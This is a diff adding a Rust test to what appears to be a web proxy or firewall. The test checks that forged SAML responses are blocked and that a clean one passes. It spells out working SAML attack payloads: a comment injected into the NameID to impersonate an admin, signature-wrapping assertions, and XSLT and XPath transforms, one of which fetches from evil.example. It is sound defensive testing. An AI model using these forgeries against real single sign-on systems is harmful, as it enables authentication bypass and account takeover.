@@ -538,6 +538,87 @@ fn a_saml_message_with_a_doctype_is_blocked_posted_or_redirected() {
     assert_eq!(origin.seen()[0].target, target);
 }
 
+/// A SAML response from a federated identity provider, as its assertion consumer receives it,
+/// with one signed assertion for `name_id`. `before` goes in front of the assertion, and
+/// `transforms` are the signature's.
+fn saml_response(before: &str, name_id: &str, transforms: &str) -> String {
+    format!(
+        r##"<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_r1" Version="2.0" IssueInstant="2024-05-20T09:41:07.118Z" Destination="https://login.contoso.com/contoso.onmicrosoft.com/B2C_1A_SAML/samlp/sso/assertionconsumer"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://sts.fabrikam.com/adfs/services/trust</saml:Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>{before}<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_a1" Version="2.0"><saml:Issuer>https://sts.fabrikam.com/adfs/services/trust</saml:Issuer><ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo><ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/><ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/><ds:Reference URI="#_a1"><ds:Transforms>{transforms}</ds:Transforms><ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><ds:DigestValue>bm90IGEgZGlnZXN0</ds:DigestValue></ds:Reference></ds:SignedInfo><ds:SignatureValue>bm90IGEgc2lnbmF0dXJl</ds:SignatureValue></ds:Signature><saml:Subject><saml:NameID Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress">{name_id}</saml:NameID></saml:Subject></saml:Assertion></samlp:Response>"##
+    )
+}
+
+/// The ways to forge a SAML response that keeps a valid signature passed (200): a comment
+/// inside the name (canonicalization drops it, a service provider reading the first text node
+/// reads `admin@contoso.com`), a forged assertion beside the signed one (signature wrapping),
+/// and an XSLT or XPath signature transform, which the verifier runs before it knows whether
+/// the signature holds.
+#[test]
+fn a_forged_saml_response_that_keeps_its_signature_is_blocked() {
+    use base64::Engine as _;
+    let origin = Origin::start();
+    let proxy = Proxy::start(
+        &origin,
+        Setup {
+            extra_top: "audit: {path: \"{dir}/audit.jsonl\"}\n".into(),
+            ..Setup::default()
+        },
+    );
+    let acs = "/contoso.onmicrosoft.com/B2C_1A_SAML/samlp/sso/assertionconsumer";
+    let form = |xml: &str| {
+        let encoded = base64::engine::general_purpose::STANDARD.encode(xml);
+        format!(
+            "SAMLResponse={}&RelayState=aHR0cHM6Ly9hcHAuY29udG9zby5jb20v",
+            encoded
+                .replace('+', "%2B")
+                .replace('/', "%2F")
+                .replace('=', "%3D")
+        )
+    };
+    let usual = r##"<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/><ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>"##;
+    let user = "zoe.martin@fabrikam.com";
+    let forged_assertion = r##"<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_evil" Version="2.0"><saml:Subject><saml:NameID>admin@contoso.com</saml:NameID></saml:Subject></saml:Assertion>"##;
+    let xslt = r##"<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:value-of select="document('http://evil.example/x')"/></xsl:template></xsl:stylesheet></ds:Transform>"##;
+    let xpath = r##"<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>count(//. | //@* | //namespace::*)</ds:XPath></ds:Transform>"##;
+    let signed_response = saml_response("", user, usual);
+    let wrapped_response = format!(
+        r##"<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_evil">{forged_assertion}<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:Object>{signed_response}</ds:Object></ds:Signature></samlp:Response>"##
+    );
+    let forged = [
+        (
+            "146120",
+            form(&saml_response(
+                "",
+                "admin@contoso.com<!---->.evil.example",
+                usual,
+            )),
+        ),
+        (
+            "146130",
+            form(&saml_response(forged_assertion, user, usual)),
+        ),
+        ("146130", form(&wrapped_response)),
+        ("146140", form(&saml_response("", user, xslt))),
+        ("146140", form(&saml_response("", user, xpath))),
+    ];
+    for (_, body) in &forged {
+        let r = proxy.post(acs, "application/x-www-form-urlencoded", body);
+        r.assert_block_page();
+    }
+    assert!(origin.seen().is_empty(), "{:?}", origin.seen());
+    let blocked_by: Vec<String> = proxy
+        .audit()
+        .iter()
+        .map(|line| line["rules"][0]["id"].to_string())
+        .collect();
+    let expected: Vec<&str> = forged.iter().map(|(rule, _)| *rule).collect();
+    assert_eq!(blocked_by, expected);
+    let clean = form(&signed_response);
+    let r = proxy.post(acs, "application/x-www-form-urlencoded", &clean);
+    assert_eq!(r.status, 200, "{}", r.raw);
+    assert_eq!(origin.seen().len(), 1);
+    assert_eq!(origin.seen()[0].body, clean.as_bytes());
+}
+
 #[test]
 fn detect_only_forwards_attacks_and_logs_them() {
     let origin = Origin::start();
